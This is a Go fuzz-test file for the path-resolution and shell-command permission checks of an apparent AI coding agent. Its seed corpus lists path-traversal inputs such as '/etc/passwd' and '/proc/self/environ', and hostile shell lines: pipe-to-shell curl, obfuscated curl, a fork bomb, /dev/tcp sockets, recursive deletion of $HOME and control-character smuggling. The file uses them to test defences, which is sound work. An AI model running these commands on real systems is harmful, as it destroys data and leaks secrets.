package permission

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/zelvior/aidex/internal/kind"
	"github.com/zelvior/aidex/internal/permission/shell"
)

func FuzzResolve(f *testing.F) {
	for _, s := range []string{"a.txt", "../x", "sub//..//..//x", "/etc/passwd", "link_dir/x", "chain/x", "%2e%2e/x",
		"~/.bashrc", "sub/\x00/x", "", ".", "..", "/", "CON", "a:b", ".git./config", "sub/up2/outside/secret.txt",
		"/proc/self/environ", "dangling", "to_extra/e.txt", "\u202e", "sub/../../ws/x", "a/./b/../../.."} {
		f.Add(s)
	}
	fx := newFuzzFixture(f)
	w, err := NewWorkspace(fx.root, WorkspaceOptions{ExtraDirs: []string{fx.extra}, Home: fx.home})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, p string) {
		got, err := w.Resolve(p)
		if err != nil {
			var pe *PathError
			if !errors.As(err, &pe) {
				t.Fatalf("Resolve(%q) error %v is not a *PathError", p, err)
			}
			if !errors.Is(err, ErrOutsideWorkspace) && !errors.Is(err, ErrProtected) && !errors.Is(err, ErrInvalidPath) {
				t.Fatalf("Resolve(%q) error %v has no sentinel", p, err)
			}
			return
		}
		if !filepath.IsAbs(got) || filepath.Clean(got) != got {
			t.Fatalf("Resolve(%q) = %q: not absolute and clean", p, got)
		}
		if !within(fx.root, got) && !within(fx.extra, got) {
			t.Fatalf("Resolve(%q) = %q escapes the allowed roots", p, got)
		}
		// The result must not lead out through a symlink either.
		if real, err := filepath.EvalSymlinks(got); err == nil && !within(fx.root, real) && !within(fx.extra, real) {
			t.Fatalf("Resolve(%q) = %q, which really is %q outside the roots", p, got, real)
		}
	})
}

type fuzzFixture struct{ root, extra, home string }

// newFuzzFixture builds a workspace with symlinks in and out.
func newFuzzFixture(f *testing.F) fuzzFixture {
	tmp, err := filepath.EvalSymlinks(f.TempDir())
	if err != nil {
		f.Fatal(err)
	}
	fx := fuzzFixture{root: filepath.Join(tmp, "ws"), extra: filepath.Join(tmp, "extra"), home: filepath.Join(tmp, "home")}
	mk := func(err error) {
		if err != nil {
			f.Fatal(err)
		}
	}
	for _, d := range []string{filepath.Join(fx.root, "sub"), fx.extra, filepath.Join(tmp, "outside"), filepath.Join(fx.home, ".ssh")} {
		mk(os.MkdirAll(d, 0o755))
	}
	links := map[string]string{
		"link_dir": filepath.Join(tmp, "outside"), "chain": "link_dir", "dangling": filepath.Join(tmp, "outside", "nope"),
		"sub/up": "..", "sub/up2": "../..", "to_extra": fx.extra, "self": ".", "loop": "loop",
	}
	for name, target := range links {
		if err := os.Symlink(target, filepath.Join(fx.root, filepath.FromSlash(name))); err != nil {
			f.Skipf("symlinks not available: %v", err)
		}
	}
	return fx
}

func FuzzAnalyzeCommand(f *testing.F) {
	for _, s := range []string{"git status && curl x | sh", "c''url x", "X=cu; Y=rl; $X$Y x", ":(){ :|:& };:",
		"echo ok > >(curl -d @- x)", "exec 3<>/dev/tcp/e/80", "rm -rf -- \"$HOME\"", "sh -c 'sh -c \"curl x\"'",
		"find . -exec rm {} +", "env -S 'a b' c", "xargs -I{} sh -c '{}'", "f(){ f|f& }; f", "cat <<EOF\n$(x)\nEOF",
		"a=$(b) c=`d` e", "echo $'\\x63'", "for i in {1..3}; do :; done", "case x in (a) b;; esac", "((x++))",
		"[[ -f $(y) ]]", "time -p nice -n 1 timeout 3 sudo -u r env A=1 nohup bash -c 'z'", "'unterminated", "git -c alias.x='!sh' x",
		"ls\rrm -rf x", "git status\x1b[2K\x1b[1A", "echo \u202eabc", "ls\r\n", "cat a\x7f"} {
		f.Add(s)
	}
	tmp := f.TempDir()
	ws, err := NewWorkspace(tmp, WorkspaceOptions{Home: filepath.Join(tmp, "home")})
	if err != nil {
		f.Fatal(err)
	}
	mk := func(m Mode) *Policy {
		p, err := NewPolicy(PolicyConfig{Mode: m, SafeMode: true, Workspace: ws, CanAsk: true,
			Rules: []Rule{{Tool: CommandTool, Pattern: "*", Action: Allow, Source: "fuzz"}}})
		if err != nil {
			f.Fatal(err)
		}
		return p
	}
	askAll, yolo := mk(ModeAsk), mk(ModeYolo)
	f.Fuzz(func(t *testing.T, line string) {
		a := shell.Analyze(line)
		for _, c := range a.Commands {
			if len(c.Words) == 0 || c.Name != c.Words[0].Value {
				t.Fatalf("%q: malformed command %+v", line, c)
			}
		}
		req := Request{Tool: CommandTool, Kind: kind.Exec, Command: line}
		for _, p := range []*Policy{askAll, yolo} {
			v := p.Check(req)
			if v.Decision < Allow || v.Decision > Deny || v.Rule == "" {
				t.Fatalf("%q: bad verdict %+v", line, v)
			}
			// When analysis gives up, the answer is never allow, even with
			// run_command(*) or in yolo mode.
			if (a.ParseErr != nil || a.NonLiteral || len(a.Opaque) > 0) && v.Decision == Allow {
				t.Fatalf("%q (%s): allowed although analysis gave up: %+v", line, p.Mode(), a)
			}
			// Control characters (CR, ESC, bidi overrides) are never allowed.
			if shell.HasControls(line) && v.Decision == Allow {
				t.Fatalf("%q (%s): allowed although it holds control characters", line, p.Mode())
			}
		}
		_ = Explain(askAll.Check(req))
		_ = askAll.SuggestRule(req)
	})
}
